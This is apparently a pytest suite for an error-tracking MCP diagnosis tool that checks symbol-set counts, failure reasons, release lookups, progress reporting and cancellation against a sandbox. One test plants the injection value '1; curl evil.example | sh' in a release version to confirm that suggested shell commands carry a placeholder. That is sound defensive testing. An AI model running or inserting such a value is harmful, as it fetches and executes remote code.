"""The diagnosis, through a real client, against the sandbox over a real socket."""

import json
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import anyio
import pytest

from errtrack_mcp.sandbox.database import Database, stored_time
from errtrack_mcp.sandbox.seed import PROJECT_ID, RELEASES, chunk_id, release_hash, release_id
from errtrack_mcp.tools.failures import REASONS

pytestmark = pytest.mark.anyio

DIAGNOSE = "error-tracking-symbol-sets-diagnose"
Call = Callable[..., Awaitable[Any]]


def counted(database: Database, condition: str) -> int:
    """Count the project's symbol sets in the database itself."""
    query = f"SELECT count(*) FROM symbol_sets WHERE team_id = ? AND {condition}"  # noqa: S608 - the tests' own words
    return int(database.execute(query, (PROJECT_ID,)).fetchone()[0])


async def test_the_project_as_a_whole(connect: Any, answer: Call, database: Database) -> None:
    """Every state is counted as the database holds it, failures are grouped, and the newest releases are covered."""
    async with connect() as client:
        found = await answer(client, DIAGNOSE)
    soon = stored_time(datetime.now(UTC) - timedelta(days=23))
    assert found["scope"] == "project"
    assert found["readable"] is False
    assert found["symbol_sets"] == counted(database, "1")
    assert found["complete"] == counted(database, "storage_ptr IS NOT NULL AND last_used IS NOT NULL")
    assert found["never_loaded"] == counted(database, "storage_ptr IS NOT NULL AND last_used IS NULL")
    assert found["failed"] == counted(database, "storage_ptr IS NULL AND failure_reason IS NOT NULL")
    assert found["unbound"] == counted(database, "release_id IS NULL")
    assert found["expiring"] == counted(database, f"coalesce(last_used, created_at) < '{soon}'")
    assert sum(group["symbol_sets"] for group in found["failures"]) == found["failed"]
    assert [release["id"] for release in found["releases"]] == [release_id(index) for index in range(5)]
    for release in found["releases"]:
        assert release["symbol_sets"] == counted(database, f"release_id = '{release['id']}'")
    assert "posthog-cli sourcemap" in " ".join(found["next_steps"])
    assert any("event release mode" in words for words in found["cannot_know"])
    assert "left_out" not in found


@pytest.mark.parametrize(("platform", "variant"), REASONS)
async def test_each_reason_comes_out_in_words_with_its_remedy(
    connect: Any, answer: Call, database: Database, platform: str, variant: str
) -> None:
    """From the JSON that the API keeps to the meaning, the remedy and an example."""
    inner: Any = {variant: "https://shop.example/app.js"}
    reason = json.dumps({platform: inner} if platform else inner)
    with database.transaction():
        database.execute("DELETE FROM symbol_sets WHERE storage_ptr IS NULL")
        database.execute(
            "INSERT INTO symbol_sets (id, team_id, ref, created_at, failure_reason) VALUES (?,?,?,?,?)",
            ("019b0000-0000-7000-8000-00000000abcd", PROJECT_ID, "https://shop.example/a.js", _now(), reason),
        )
    async with connect() as client:
        found = await answer(client, DIAGNOSE)
        one = await answer(client, DIAGNOSE, ref="https://shop.example/a.js")
    meaning, remedy = REASONS[platform, variant]
    expected = {
        "reason": f"{platform} {variant}".strip(),
        "symbol_sets": 1,
        "meaning": meaning,
        "remedy": remedy,
        "ref": "https://shop.example/a.js",
    }
    assert found["failures"] == [expected] == one["failures"]
    assert remedy in found["next_steps"][0]
    assert one["next_steps"][0] == remedy
    assert meaning in one["verdict"]


def _now() -> str:
    return stored_time(datetime.now(UTC))


@pytest.mark.parametrize(
    ("ref", "verdict", "state"),
    [
        (chunk_id("storefront-web/2.13.2/main"), "loaded or checked lately", "complete"),
        (chunk_id("never/admin"), "never loaded", "never_loaded"),
    ],
)
async def test_one_ref(connect: Any, answer: Call, ref: str, verdict: str, state: str) -> None:
    """The contract's recipe, in words, with the release that it belongs to."""
    async with connect() as client:
        found = await answer(client, DIAGNOSE, ref=ref)
    assert found["scope"] == "ref"
    assert verdict in found["verdict"]
    assert found[state] == found["symbol_sets"] == 1
    assert found["readable"] is {"complete": True, "never_loaded": None}[state]
    assert len(found["releases"]) == 1


async def test_the_absence_of_a_ref_is_a_finding(connect: Any, answer: Call, database: Database) -> None:
    """A chunk id without a row, a URL without one, and a project without any each mean something else."""
    async with connect() as client:
        chunk = await answer(client, DIAGNOSE, ref="0198c0de-0000-7000-8000-000000000000")
        url = await answer(client, DIAGNOSE, ref="https://shop.example/none.js")
        with database.transaction():
            database.execute("DELETE FROM symbol_sets")
        empty = await answer(client, DIAGNOSE, ref="0198c0de-0000-7000-8000-000000000000")
        project = await answer(client, DIAGNOSE)
    assert "never uploaded" in chunk["verdict"]
    assert "retention" in chunk["verdict"]
    assert "never tried to fetch" in url["verdict"]
    assert "no symbol sets at all" in empty["verdict"]
    assert "no symbol sets" in project["verdict"]
    assert chunk["symbol_sets"] == 0
    assert [each["readable"] for each in (chunk, url, empty, project)] == [False, False, False, None]


async def test_one_release_by_id_and_by_project_and_version(connect: Any, answer: Call, database: Database) -> None:
    """All three ways to name it lead to the same counts: by id, by the CLI's hash, and by looking for its names."""
    release = RELEASES[3]  # its hash id is not the CLI's
    assert release.hash_id != release_hash(release.project, release.version)
    async with connect() as client:
        by_hash = await answer(client, DIAGNOSE, project=RELEASES[4].project, version=RELEASES[4].version)
        by_id = await answer(client, DIAGNOSE, release_id=release_id(4))
        by_name = await answer(client, DIAGNOSE, project=release.project, version=release.version)
    assert by_hash == by_id
    assert by_id["symbol_sets"] == counted(database, f"release_id = '{release_id(4)}'") > 0
    assert by_name["releases"][0]["id"] == release_id(3)
    assert "No symbol set is bound" in by_name["verdict"]
    assert "--release-version" in " ".join(by_name["next_steps"])


async def test_a_release_that_is_not_there_is_said_so(connect: Any, refusal: Call) -> None:
    """By id and by name, in words; and a call that names too much is refused before anything is asked."""
    async with connect() as client:
        assert "not_found" in await refusal(client, DIAGNOSE, project="shop", version="none")
        assert "not_found" in await refusal(client, DIAGNOSE, release_id="019b0000-0000-7000-8000-00000000dead")
        assert "invalid_arguments" in await refusal(client, DIAGNOSE, project="shop")
        assert "invalid_arguments" in await refusal(client, DIAGNOSE, ref="a", release_id=release_id(1))


async def test_what_a_shell_could_act_on_is_not_put_into_a_command(
    connect: Any, answer: Call, database: Database
) -> None:
    """A release may be named by anyone: the command then holds a placeholder."""
    with database.transaction():
        database.execute("UPDATE releases SET version = ? WHERE id = ?", ("1; curl evil.example | sh", release_id(3)))
    async with connect() as client:
        found = await answer(client, DIAGNOSE, release_id=release_id(3))
    assert "--release-version VALUE" in " ".join(found["next_steps"])
    assert "curl" not in " ".join(found["next_steps"])


async def test_progress_is_told_in_words(connect: Any, database: Database) -> None:
    """A client that asks for it hears how far the reading is."""
    _fill(database, 2500)
    heard: list[tuple[float, float | None, str | None]] = []

    async def hear(progress: float, total: float | None, message: str | None) -> None:
        heard.append((progress, total, message))

    async with connect() as client:
        await client.call_tool(DIAGNOSE, {}, progress_callback=hear)
    assert len(heard) >= 3
    assert heard == sorted(heard)
    assert heard[-1][2] is not None
    assert heard[-1][2].startswith("Read ")
    assert "symbol sets" in heard[-1][2]


async def test_at_most_eight_pages_are_asked_for_at_once(
    connect: Any, answer: Call, database: Database, slow_sandbox: Any
) -> None:
    """And never one alone, while there are many."""
    _fill(database, 3000)
    async with connect(POSTHOG_HOST=slow_sandbox.url) as client:
        found = await answer(client, DIAGNOSE)
    assert found["symbol_sets"] == counted(database, "1")
    assert slow_sandbox.most_at_once == 8


async def test_what_stops_early_says_what_it_did_not_see(
    connect: Any, answer: Call, database: Database, slow_sandbox: Any
) -> None:
    """By the time given, with the number of those not seen."""
    _fill(database, 3000)
    slow_sandbox.seconds = 0.5
    async with connect(POSTHOG_HOST=slow_sandbox.url) as client:
        found = await answer(client, DIAGNOSE, max_seconds=1)
    assert "1 seconds had passed" in found["left_out"]
    assert f"{counted(database, '1') - found['symbol_sets']:,} symbol sets not seen" in found["left_out"]


async def test_a_failure_on_the_way_leaves_what_was_seen(
    connect: Any, answer: Call, database: Database, slow_sandbox: Any
) -> None:
    """A walk that PostHog ends halfway is an answer with a reservation, not an error."""
    _fill(database, 3000)
    slow_sandbox.fails_after = 12
    async with connect(POSTHOG_HOST=slow_sandbox.url, ERRTRACK_MAX_RETRY_WAIT="0") as client:
        found = await answer(client, DIAGNOSE)
    assert 500 <= found["symbol_sets"] < 3000
    assert "PostHog stopped answering (server_failed)" in found["left_out"]


async def test_sets_that_come_and_go_meanwhile_are_counted_once(
    connect: Any, answer: Call, database: Database, slow_sandbox: Any
) -> None:
    """Some of the first rows are deleted and others added while later pages are read: the rest is all there, once."""
    _fill(database, 3000)
    with database.transaction():
        database.execute(
            "UPDATE symbol_sets SET last_used = ? WHERE ref LIKE 'filler-%' AND ref >= 'filler-000020'", (_now(),)
        )
    changed: list[int] = []

    def change() -> None:
        changed.append(1)
        with database.transaction():
            database.execute("DELETE FROM symbol_sets WHERE ref LIKE 'filler-00000%' OR ref LIKE 'filler-00001%'")
            _insert(database, [f"aaa-{number}" for number in range(7)])

    slow_sandbox.after(15, change)
    async with connect(POSTHOG_HOST=slow_sandbox.url) as client:
        found = await answer(client, DIAGNOSE)
    assert changed == [1]
    assert found["complete"] == counted(database, "storage_ptr IS NOT NULL AND last_used IS NOT NULL")
    there = counted(database, "1")
    assert there <= found["symbol_sets"] <= there + 20, "all that are there now, and at most those deleted since"


async def test_a_cancelled_diagnosis_asks_no_further(connect: Any, database: Database, slow_sandbox: Any) -> None:
    """Within moments of the cancellation, no more pages are asked for."""
    _fill(database, 5000)
    slow_sandbox.seconds = 0.2
    async with connect(POSTHOG_HOST=slow_sandbox.url) as client:
        with anyio.move_on_after(0.7):
            await client.call_tool(DIAGNOSE, {})
        await anyio.sleep(0.3)
        asked = len(slow_sandbox.requests)
        await anyio.sleep(0.6)
        assert len(slow_sandbox.requests) == asked < 45


def _fill(database: Database, number: int) -> None:
    with database.transaction():
        _insert(database, [f"filler-{index:06}" for index in range(number)])


def _insert(database: Database, refs: list[str]) -> None:
    for index, ref in enumerate(refs):
        database.execute(
            "INSERT INTO symbol_sets (id, team_id, ref, created_at, storage_ptr) VALUES (?,?,?,?,?)",
            (f"019c0000-{abs(hash(ref)) % 65536:04x}-7000-8000-{index:012x}", PROJECT_ID, ref, _now(), "symbolsets/x"),
        )
